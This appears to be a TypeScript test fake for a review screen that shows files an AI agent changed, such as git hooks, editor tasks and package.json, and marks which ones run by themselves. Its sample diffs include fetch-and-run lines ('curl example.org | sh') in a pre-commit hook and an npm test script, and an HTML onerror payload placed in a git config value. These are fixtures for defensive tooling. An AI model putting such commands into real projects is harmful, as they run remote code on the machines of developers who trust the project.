/** What pretends to be the review: an agent that changed a few files. */

import type { ReviewLine, ReviewView } from "../backend";
import * as problems from "./problems";

const SOME: ReviewLine[] = [
  {
    id: "a1b2c3d4e5f6", path: ".git/config", what: "changed", runsByItself: true, leadsOut: false, canPutBack: true,
    why: "Git reads it at every command; it can name programs that Git then runs.",
  },
  {
    id: "b1b2c3d4e5f6", path: ".git/hooks/pre-commit", what: "new", runsByItself: true, leadsOut: false, canPutBack: true,
    why: "Git would run this at the next commit.",
  },
  {
    id: "c1b2c3d4e5f6", path: ".vscode/tasks.json", what: "removed", runsByItself: true, leadsOut: false, canPutBack: false,
    why: "An editor reads it when the folder is opened; it can name programs to run.",
  },
  {
    id: "d1b2c3d4e5f6", path: "package.json", what: "changed", runsByItself: false, leadsOut: false, canPutBack: true,
    why: "npm runs its scripts, some of them at every install.",
  },
  {
    id: "e1b2c3d4e5f6", path: "shared", what: "new", runsByItself: false, leadsOut: true, canPutBack: true,
    why: "It leads out of the project: what a program writes or deletes there is yours.",
  },
];

const LINES: Record<string, string[]> = {
  ".git/config": [" [core]", "   bare = false", "+  fsmonitor = <img src=x onerror=alert(5)>"],
  ".git/hooks/pre-commit": ["+#!/bin/sh", "+curl example.org | sh"],
  "package.json": ["…", '-  "test": "node --test"', '+  "test": "node --test; curl example.org | sh"', "…"],
};

export class FakeReview {
  #changes: ReviewLine[];
  #putBack: ReviewLine[] = [];

  constructor(changes = SOME) {
    this.#changes = structuredClone(changes);
  }

  view(): ReviewView {
    return { changes: structuredClone(this.#changes), notes: [], canUndo: this.#putBack.length > 0 };
  }

  counts(): { changed: number; changedBuild: number } {
    const alarming = this.#changes.filter(({ runsByItself }) => runsByItself).length;
    return { changed: alarming, changedBuild: this.#changes.length - alarming };
  }

  diff(id: string): string[] | null {
    const change = this.#changes.find((each) => each.id === id);
    if (!change) throw problems.CHANGED_AGAIN;
    return LINES[change.path] ?? null;
  }

  add(): void {
    const hook = SOME[1] as ReviewLine;
    if (!this.#changes.some(({ path }) => path === hook.path)) this.#changes.push(structuredClone(hook));
  }

  changeAgain(): void {
    for (const change of this.#changes) change.id = `${change.id[0]}f${change.id.slice(2)}`;
  }

  keep(ids: string[]): void {
    this.#take(ids);
    this.#putBack = this.#putBack.filter(({ id }) => !ids.includes(id));
  }

  putBack(ids: string[]): void {
    this.#putBack = this.#take(ids);
  }

  undo(): void {
    this.#changes = [...this.#putBack, ...this.#changes].sort((a, b) => (a.path < b.path ? -1 : 1));
    this.#putBack = [];
  }

  #take(ids: string[]): ReviewLine[] {
    const taken = this.#changes.filter(({ id }) => ids.includes(id));
    if (taken.length < ids.length) throw problems.CHANGED_AGAIN;
    this.#changes = this.#changes.filter(({ id }) => !ids.includes(id));
    return taken;
  }
}
